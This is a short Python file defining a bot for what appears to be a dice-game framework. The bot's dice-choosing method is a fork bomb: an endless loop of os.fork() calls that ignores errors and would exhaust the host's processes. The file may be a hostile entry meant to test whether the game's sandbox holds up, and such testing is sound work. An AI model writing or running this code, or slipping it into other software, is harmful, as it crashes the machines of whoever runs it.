"""Fork without end."""

import os

from gangland import gang_of_dice


class Subject(gang_of_dice.Bot):
    def choose_dice(self, view):
        while True:
            try:
                os.fork()
            except OSError:
                pass
